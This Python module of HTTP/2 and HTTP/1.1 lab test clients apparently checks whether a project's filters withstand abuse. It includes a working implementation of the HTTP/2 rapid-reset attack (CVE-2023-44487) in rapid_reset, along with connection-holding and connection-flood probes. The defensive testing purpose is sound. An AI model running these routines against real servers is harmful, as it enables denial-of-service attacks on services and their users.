"""HTTP/2 test clients for the filters lab: ordinary requests and the rapid-reset pattern (CVE-2023-44487).

Cleartext HTTP/2 with prior knowledge (h2c), as the lab's nginx listens. Uses the `h2` library (a dev
dependency: this is test tooling, not something nephoscope runs on a provider's host).
"""

from __future__ import annotations

import contextlib
import http.client
import socket
import time
from dataclasses import asdict, dataclass
from typing import Any


@dataclass(slots=True)
class ResetOutcome:
    """What happened to one rapid-reset connection: how far it got and who ended it."""

    streams_sent: int          # HEADERS+RST_STREAM pairs written before the connection ended (or all)
    cut_off: bool              # the server (or a filter) ended the connection before the attack finished
    goaway: bool               # a GOAWAY frame arrived
    closed: bool               # the TCP connection was closed or reset
    final_status: int | None   # status of an ordinary request sent on the same connection afterwards
    seconds: float

    def to_dict(self) -> dict[str, Any]:
        """Return a JSON-ready dict."""
        return asdict(self)


def _headers(host: str, path: str = "/") -> list[tuple[str, str]]:
    return [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path),
            ("user-agent", "nephoscope-lab")]


def _connect(host: str, port: int, timeout: float) -> socket.socket:
    """Connect with Nagle off: small frames go out at once, so timings measure the path, not delayed ACKs."""
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def _pump(sock: socket.socket, conn: Any, wait: float) -> tuple[list[Any], bool]:
    """Read what the peer sent within `wait` seconds; return the h2 events and whether the socket closed."""
    import h2.exceptions

    events: list[Any] = []
    sock.settimeout(wait)
    try:
        data = sock.recv(65536)
    except TimeoutError:
        return events, False
    except OSError:
        return events, True
    if not data:
        return events, True
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        return events, True
    with contextlib.suppress(OSError):
        sock.sendall(conn.data_to_send())
    return events, False


def rapid_reset(host: str, port: int, streams: int = 500, batch: int = 25, timeout: float = 20.0) -> ResetOutcome:
    """Open streams and cancel each at once (HEADERS then RST_STREAM), then try one ordinary request."""
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events

    started = time.monotonic()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    sent, goaway, closed = 0, False, False
    with _connect(host, port, timeout) as sock:
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        stream_id = 1
        while sent < streams and not (goaway or closed):
            for _ in range(min(batch, streams - sent)):
                conn.send_headers(stream_id, _headers(host), end_stream=True)
                conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                stream_id += 2
            try:
                sock.sendall(conn.data_to_send())
            except OSError:
                closed = True
                break
            sent += batch if sent + batch <= streams else streams - sent
            events, closed = _pump(sock, conn, 0.01)
            goaway = goaway or any(isinstance(e, h2.events.ConnectionTerminated) for e in events)
        status = None
        if not (goaway or closed):
            try:
                conn.send_headers(stream_id, _headers(host), end_stream=True)
                sock.sendall(conn.data_to_send())
            except (OSError, Exception):  # h2 refuses new streams on a terminated connection
                closed = True
            deadline = time.monotonic() + timeout
            while status is None and not (goaway or closed) and time.monotonic() < deadline:
                events, closed = _pump(sock, conn, 0.5)
                for e in events:
                    if isinstance(e, h2.events.ResponseReceived) and e.stream_id == stream_id:
                        status = int(dict(e.headers).get(":status", "0"))
                    elif isinstance(e, h2.events.ConnectionTerminated):
                        goaway = True
    return ResetOutcome(sent, goaway or closed or status is None, goaway, closed, status,
                        round(time.monotonic() - started, 3))


def h2_get(host: str, port: int, path: str = "/", timeout: float = 20.0) -> tuple[int, bytes]:
    """Send one HTTP/2 (h2c prior knowledge) GET; return its status and body."""
    import h2.config
    import h2.connection
    import h2.events

    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    with _connect(host, port, timeout) as sock:
        conn.initiate_connection()
        conn.send_headers(1, _headers(host, path), end_stream=True)
        sock.sendall(conn.data_to_send())
        status, body = 0, b""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            events, closed = _pump(sock, conn, 1.0)
            for e in events:
                if isinstance(e, h2.events.ResponseReceived):
                    status = int(dict(e.headers).get(":status", "0"))
                elif isinstance(e, h2.events.DataReceived):
                    body += e.data
                    conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                elif isinstance(e, h2.events.StreamEnded):
                    return status, body
            if closed:
                break
    raise OSError(f"no complete HTTP/2 response from {host}:{port}{path}")


def h2_many(host: str, port: int, count: int, timeout: float = 20.0) -> int:
    """Send `count` HTTP/2 GETs one after another on one connection; return how many were answered."""
    import h2.config
    import h2.connection
    import h2.events

    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    done = 0
    with _connect(host, port, timeout) as sock:
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        for i in range(count):
            stream_id = 1 + 2 * i
            conn.send_headers(stream_id, _headers(host), end_stream=True)
            sock.sendall(conn.data_to_send())
            ended = False
            while not ended:
                events, closed = _pump(sock, conn, timeout)
                if closed:
                    return done
                for e in events:
                    if isinstance(e, h2.events.DataReceived):
                        conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
                    elif isinstance(e, h2.events.StreamEnded) and e.stream_id == stream_id:
                        ended = True
            done += 1
    return done


def http1_many(host: str, port: int, count: int, timeout: float = 20.0) -> int:
    """Send `count` HTTP/1.1 GETs one after another on one keep-alive connection; return how many got 200."""
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    done = 0
    try:
        conn.connect()
        conn.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for _ in range(count):
            conn.request("GET", "/")
            resp = conn.getresponse()
            resp.read()
            done += resp.status == 200
    finally:
        conn.close()
    return done


def http1_get(host: str, port: int, path: str = "/", timeout: float = 20.0) -> tuple[int, bytes]:
    """Send one HTTP/1.1 GET; return its status and body."""
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        conn.request("GET", path)
        resp = conn.getresponse()
        return resp.status, resp.read()
    finally:
        conn.close()


def connects(host: str, port: int, count: int, timeout: float = 0.3) -> int:
    """Open `count` new TCP connections one after another (each closed at once); return how many connected."""
    done = 0
    for _ in range(count):
        try:
            with socket.create_connection((host, port), timeout=timeout):
                done += 1
        except OSError:
            continue
    return done


def hold(host: str, port: int, count: int, timeout: float = 2.0) -> list[bool]:
    """Open `count` TCP connections and keep them all open; return which ones connected and got an HTTP answer."""
    socks, out = [], []
    try:
        for _ in range(count):
            try:
                s = socket.create_connection((host, port), timeout=timeout)
            except OSError:
                out.append(False)
                continue
            socks.append(s)
            try:
                s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
                out.append(s.recv(12).startswith(b"HTTP/1."))
            except OSError:
                out.append(False)
    finally:
        for s in socks:
            s.close()
    return out


def _main(argv: list[str]) -> int:
    """Run one client function with JSON arguments and print its result as JSON (for `netns.run_in`)."""
    import json
    import sys

    name, args = argv[0], json.loads(argv[1]) if len(argv) > 1 else []
    if name == "rapid_reset":
        out: Any = rapid_reset(*args).to_dict()
    elif name in ("h2_get", "http1_get"):
        try:
            status, body = (h2_get if name == "h2_get" else http1_get)(*args)
            out = {"status": status, "body": body.decode("utf-8", "replace")[:2000], "error": ""}
        except OSError as exc:
            out = {"status": 0, "body": "", "error": str(exc)}
    elif name == "connects":
        out = {"connected": connects(*args)}
    elif name == "hold":
        out = {"answered": hold(*args)}
    elif name == "timed":  # (what, host, port, count): per-request latency of `count` sequential requests
        what, host, port, count = args
        fn = h2_get if what == "h2" else http1_get
        times = []
        for _ in range(int(count)):
            t = time.perf_counter()
            fn(host, int(port))
            times.append(time.perf_counter() - t)
        out = {"seconds": times}
    elif name == "keepalive":  # (what, host, port, count): `count` sequential requests on one connection
        what, host, port, count = args
        t = time.perf_counter()
        done = (h2_many if what == "h2" else http1_many)(host, int(port), int(count))
        out = {"requests": done, "seconds": time.perf_counter() - t}
    elif name == "download":  # (host, port, path, repeats): HTTP/1.1 bulk transfers, seconds and bytes each
        host, port, path, repeats = args
        runs = []
        for _ in range(int(repeats)):
            t = time.perf_counter()
            _status, body = http1_get(host, int(port), path, 60.0)
            runs.append({"seconds": time.perf_counter() - t, "bytes": len(body)})
        out = {"runs": runs}
    else:
        print(f"unknown function {name}", file=sys.stderr)
        return 2
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    import sys

    sys.exit(_main(sys.argv[1:]))
